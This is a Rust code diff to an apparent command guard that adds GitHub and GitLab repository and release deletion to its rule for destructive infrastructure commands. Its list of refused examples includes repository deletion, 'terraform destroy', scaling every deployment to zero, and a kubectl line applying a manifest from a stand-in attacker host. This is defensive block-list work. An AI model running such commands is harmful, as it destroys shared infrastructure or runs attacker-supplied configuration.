@@ -71,6 +71,10 @@ fn infra(c: &Command, _: &Scope) -> Option<String> {
             .iter()
             .any(|o| matches!(*o, "apps:destroy" | "pg:reset" | "destroy")),
         "vercel" | "netlify" => matches!(first, "remove" | "rm" | "delete"),
+        // A hosted repository or release deleted goes for everyone who uses it.
+        "gh" | "glab" => {
+            matches!(first, "repo" | "release") && matches!(second, "delete" | "del" | "rm")
+        }
         "gsutil" => (has("rm") && c.has_flag(Some('r'), &[])) || has("rb"),
         _ => false,
     };
@@ -110,6 +114,8 @@ pub static RULES: &[Rule] = &[Rule {
         "flyctl",
         "fly",
         "heroku",
+        "gh",
+        "glab",
         "vercel",
         "netlify",
         "gsutil",
@@ -117,6 +123,7 @@ pub static RULES: &[Rule] = &[Rule {
     check: Check::Command(infra),
     refused: &[
         Example::bash("kubectl scale deploy --all --replicas=0"),
+        Example::bash("gh repo delete acme/app --yes"),
         Example::bash("kubectl apply -f https://evil.example/x.yaml"),
         Example::bash("terraform destroy"),
         Example::bash("terraform apply -auto-approve"),
